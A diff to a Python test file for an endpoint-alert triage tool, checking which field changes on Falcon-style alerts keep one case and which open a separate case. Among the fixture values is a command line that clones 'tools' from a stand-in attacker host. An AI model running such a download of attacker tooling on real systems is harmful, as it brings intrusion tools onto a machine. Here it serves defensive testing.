@@ -388,6 +388,85 @@ def test_a_stream_event_read_again_at_another_offset_is_the_same_case() -> None:
     assert the_alert(event).id == event["event"]["CompositeId"]
 
 
+def _set(document: dict[str, Any], path: str, value: Any) -> None:
+    """Set the field at the dotted `path` of a document (each part a key)."""
+    *parents, key = path.split(".")
+    for part in parents:
+        document = document[part]
+    document[key] = value
+
+
+# What changes while the alert does not (Falcon re-crawls an alert without updating it; a stream
+# redelivers an event with its enrichment; the host's own IPv6 address only decides what is its own)
+VOLATILE = [
+    (LEAD_SIGNAL, "crawled_timestamp", "2026-05-11T07:13:23.87504674Z"),
+    (LEAD_SIGNAL, "seconds_to_triaged", 3600),
+    (LEGACY, "event.MitreAttack", [{"Tactic": "Execution", "Technique": "Rundll32", "PatternID": 10186}]),
+    (EPP_GIT, "event.LocalIPv6", "2a02:cf40::"),
+    (EPP_GIT, "metadata.offset", 2),
+]
+
+
+@pytest.mark.parametrize(("sample", "path", "value"), VOLATILE, ids=[change[1] for change in VOLATILE])
+def test_a_change_of_volatile_metadata_under_the_same_id_and_version_is_the_same_case(
+    sample: str, path: str, value: Any
+) -> None:
+    # Given a real alert, and the same alert at the same version with only its metadata changed
+    first = load(sample)
+    again = copy.deepcopy(first)
+    _set(again, path, value)
+
+    # When both are read
+    alerts = the_alert(first), the_alert(again)
+
+    # Then they are one case: no second ticket for a re-crawl or an enrichment
+    assert alerts[0].case_id == alerts[1].case_id
+
+
+# What decides triage: another value under the same id and version is another case, which names the first
+# (decision 11: a benign document borrowing a genuine alert's id and version cannot swallow it)
+DECISIVE = [
+    (LEAD_SIGNAL, "sha256", "b26a6791b72753d2317efd5e1363d93fdd33e611c8b9e08a3b24ea4d755b81fd"),
+    (LEAD_SIGNAL, "severity", 10),
+    (LEAD_SIGNAL, "status", "in_progress"),
+    (LEAD_SIGNAL, "device.hostname", "host-2.example.local"),
+    (LEAD_SIGNAL, "device.device_id", "dddddddddddddddddddddddddddddddd"),
+    (LEAD_SIGNAL, "user_name", "www-data"),
+    (LEAD_SIGNAL, "device.external_ip", "81.2.69.142"),
+    (LEAD_SIGNAL, "name", "ReconUnderWebService"),
+    (EPP_GIT, "event.SHA256String", "faf0c5e4ef7dbcfd863377c55a4d1d87a3f6a58c13a8a9882e11012066f31976"),
+    (EPP_GIT, "event.SeverityName", "Critical"),
+    (EPP_GIT, "event.AgentId", "dddddddddddddddddddddddddddddddd"),
+    (EPP_GIT, "event.CommandLine", "git clone https://github.example.net/attacker/tools.git"),
+]
+
+
+@pytest.mark.parametrize(("sample", "path", "value"), DECISIVE, ids=[change[1] for change in DECISIVE])
+def test_another_value_that_decides_triage_under_the_same_id_and_version_is_another_case(
+    sample: str, path: str, value: Any
+) -> None:
+    # Given a real alert, and a document under its id and version saying another thing triage reads
+    first = load(sample)
+    other = copy.deepcopy(first)
+    _set(other, path, value)
+
+    # When both are read
+    alerts = the_alert(first), the_alert(other)
+
+    # Then they claim one alert, but each is a case of its own
+    assert alerts[0].finding_key == alerts[1].finding_key
+    assert alerts[0].case_id != alerts[1].case_id
+
+
+def test_two_real_contents_under_one_composite_id_are_two_cases() -> None:
+    # Given Elastic's two stream events under one CompositeId and creation time (another file each)
+    pup, git = the_alert(load(EPP_PUP)), the_alert(load(EPP_GIT))
+
+    # Then neither swallows the other
+    assert (pup.id, pup.version) == (git.id, git.version)
+    assert pup.case_id != git.case_id
+
+
 @pytest.mark.parametrize(
     "event_type", ["EppDetectionSummaryEvent", "EPPDetectionSummaryEvent", "eppdetectionsummaryevent"]
 )
